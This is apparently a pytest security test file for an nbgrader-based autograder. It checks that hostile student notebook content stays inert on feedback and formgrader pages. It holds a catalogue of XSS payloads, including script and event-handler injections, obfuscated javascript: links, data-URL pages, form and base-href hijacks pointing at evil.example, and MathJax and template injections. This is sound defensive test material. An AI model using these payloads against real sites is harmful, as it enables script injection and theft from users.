"""Text of a student's that would run, on a feedback page or in formgrader (60 of
docs/attacks.md).
"""

import html as entities
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from classes import graded, hand_in, released
from nbconvert.exporters import HTMLExporter
from notebooks import TOPIC, cell, solved
from traitlets.config.loader import PyFileConfigLoader

from autograder.course.solve import code_cell
from autograder.nbgrader import api
from autograder.nbgrader.markdown import clean

pytestmark = pytest.mark.filterwarnings("ignore")  # nbgrader's own, of which we are not the masters
HOSTILE = {
    "a script": "<script>attack()</script>",
    "a script of a file": "<script src='https://evil.example/x.js'></script>",
    "a handler": "<img src=x onerror=attack()>",
    "a handler in a picture": "<svg/onload=attack()><animate onbegin=attack() "
    "attributeName=x></svg>",
    "a link": "[click](javascript:attack())",
    "a link in disguise": "[click](jAvA\tscript:attack()) <a href='java&#10;script:attack()'>x</a>",
    "a link in another disguise": "[a](&#106;avascript:attack())",
    "a link to a page of its own": "[click](data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==)",
    "a picture that is none": "![x](data:text/html;base64,PHNjcmlwdD4=) "
    "![y](data:image/svg+xml;base64,PHN2Zz4=)",
    "a picture from elsewhere": "![x](https://evil.example/pixel.png) <img "
    "src='//evil.example/p.png'>",
    "a frame": "<iframe srcdoc='<script>attack()</script>'></iframe><embed src=x>",
    "an object": "<object data='javascript:attack()'></object><applet code=x>",
    "a form": "<form action='https://evil.example'><input name=score class=score>",
    "a button": "<button formaction='javascript:attack()'>",
    "a page's base": "<base href='https://evil.example/'><link rel=stylesheet href=x>",
    "a page's head": "<meta http-equiv=refresh content='0;url=javascript:attack()'>",
    "a style": "<style>.score{display:none}</style><p style='background:url(https://evil.example)'>x</p>",
    "a name that formgrader looks for": "<p class='score comment full-credit' "
    "id='written-saturation'>20</p>",
    "an end of a tag": "--></script></style></textarea></title><img src=x onerror=attack()>",
    "a link in mathematics": r"$\href{javascript:attack()}{x}$",
    "tags in mathematics": r"$$\unicode{<img src=x onerror=attack()>}$$ $a<script>attack()</script>$",
    "an environment": r"\begin{align}<img src=x onerror=attack()>\end{align}",
    "a template": "{{ 7 * 7 }} {% raw %} {{ resources }} ${7*7} <%= 7*7 %> {{config}}",
    "an attachment's kind": "![a](attachment:a.png)",
    "code": '```html"><script>attack()</script>\n<script>attack()</script>\n```',
    "a colour of the terminal": "\x1b[2J\x1b]0;title\x07\x9b31m",
    "a heading": '# <script>attack()</script> "onmouseover=attack()',
}


class Reader(HTMLParser):
    """All tags of a page that could do or load something."""

    def __init__(self, page):
        super().__init__()
        self.live = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        if tag in (
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "base",
            "meta",
            "link",
            "svg",
            "style",
        ):
            self.live.append((tag, *map(str, attrs)))
        for name, value in attrs:
            url = re.sub(r"[\s\x00-\x1f]", "", entities.unescape(value or "")).lower()
            fetched = name in (
                "src",
                "srcset",
                "data",
                "background",
                "poster",
            ) and not url.startswith("data:image/png")
            if (
                name.startswith("on")
                or url.startswith(("javascript:", "data:text", "vbscript:"))
                or fetched
            ):
                self.live.append((tag, name, value))


def live(page):
    return Reader(page).live


# --- markdown ---


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_in_cleaned_html_lives(text):
    assert live(clean(text)) == []


HARMLESS = {
    "a table": "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>",
    "a picture of its own": '<img alt="a" src="data:image/png;base64,AAAA">',
    "a link": '<a href="https://example.org/a?b=c">x</a>',
    "mathematics": r"<p>$a &lt; b$ and \begin{align}a &amp;= b\end{align}</p>",
    "coloured code": '<div class="highlight"><pre><span class="kn">import</span></pre></div>',
    "what folds": "<details><summary>a</summary>b</details>",
    "a list": '<ol start="3"><li><em>a</em> <code>b</code> <del>c</del></li></ol>',
}


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS)
def test_what_an_honest_answer_has_stays(text):
    assert clean(text) == text


# --- pages of nbgrader ---


@pytest.fixture(scope="module")
def course():
    return released()


def hostile():
    """A notebook that has every hostile text in every place where text can be."""
    notebook = solved(
        softmax="def softmax(z):\n    raise ValueError('<script>attack()</script><img src=x "
        "onerror=attack()>')"
    )
    everything = "\n\n".join(HOSTILE.values())
    cell(notebook, "written-saturation")["source"] = everything
    cell(notebook, "written-saturation")["attachments"] = {
        "a.png": {
            'image/png"><script>attack()</script><img src="': 'AAAA"><script>attack()</script>'
        }
    }
    for text in HOSTILE.values():
        notebook["cells"].append(
            {"cell_type": "markdown", "id": "x", "metadata": {"name": text}, "source": text}
        )
        notebook["cells"].append(
            {"cell_type": "raw", "id": "x", "metadata": {"format": "text/html"}, "source": text}
        )
        notebook["cells"].append(code_cell("x", f"# {text!r}\n%%html\n{text}"))
        notebook["cells"][-1]["metadata"] = {"magics_language": text, "tags": [text], "title": text}
        notebook["cells"][-1]["outputs"] = [
            {
                "output_type": "display_data",
                "data": {"text/html": text, "application/javascript": "attack()"},
                "metadata": {},
            }
        ]
    notebook["metadata"] |= {
        "title": HOSTILE["a script"],
        "widgets": {"x": HOSTILE["a script"]},
        "authors": [HOSTILE["a handler"]],
    }
    notebook["metadata"]["language_info"] = {
        "name": HOSTILE["a script"],
        "pygments_lexer": HOSTILE["a script"],
    }
    return notebook


@pytest.fixture(scope="module")
def attacked(course):
    hand_in(course, "mallory", hostile())
    hand_in(course, "ada", solved())
    reports = graded(course, "mallory", "ada")
    assert reports["ada"].score == 20
    return course


def test_60_nothing_of_a_students_lives_on_a_feedback_page(attacked):
    with api.opened(attacked) as nbgrader:
        for student in ("mallory", "ada"):
            assert nbgrader.generate_feedback(TOPIC.id, student)["success"]
    pages = [
        (attacked.root / "feedback" / student / TOPIC.id / "neurons.html").read_text(
            encoding="utf-8"
        )
        for student in ("mallory", "ada")
    ]
    assert set(live(pages[0])) <= set(
        live(pages[1])
    )  # MathJax and our own style, as for an honest one
    assert "attack()" in pages[0]  # it can be read
    assert "7 * 7" in pages[0]


def test_60_nothing_of_a_students_lives_in_formgrader(attacked):
    """The page that formgrader makes of a submission: its exporter, its template, the course's
    configuration.
    """
    import nbgrader.server_extensions.formgrader as formgrader

    config = PyFileConfigLoader(api.CONFIG, path=str(attacked.root)).load_config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [
        str(Path(formgrader.__file__).parent / "templates")
    ]
    exporter = HTMLExporter(config=config)
    names = {
        "assignment_id": TOPIC.id,
        "notebook_id": "neurons",
        "submission_id": "1",
        "index": 0,
        "total": 1,
    }
    names |= {
        "base_url": "",
        "student": "mallory",
        "last_name": None,
        "first_name": None,
        "notebook_path": "x",
    }
    found = []
    for student in ("mallory", "ada"):
        path = attacked.root / "autograded" / student / TOPIC.id / "neurons.ipynb"
        found.append(exporter.from_filename(str(path), resources=dict(names))[0])
    assert set(live(found[0])) <= set(live(found[1]))
    assert "evil.example" in found[0]


def test_60_nothing_of_a_students_outputs_and_metadata_is_kept(attacked):
    path = attacked.root / "autograded" / "mallory" / TOPIC.id / "neurons.ipynb"
    notebook = nbformat.read(path, as_version=4)
    assert not [c for c in notebook.cells if c.cell_type == "raw"]
    outputs = [o for c in notebook.cells if c.cell_type == "code" for o in c.outputs]
    assert all("application/javascript" not in o.data for o in outputs)
    assert "attack" not in json.dumps(notebook.metadata)


def test_60_mathjax_is_loaded_with_its_safe_extension():
    assert ",Safe" in HTMLExporter().mathjax_url
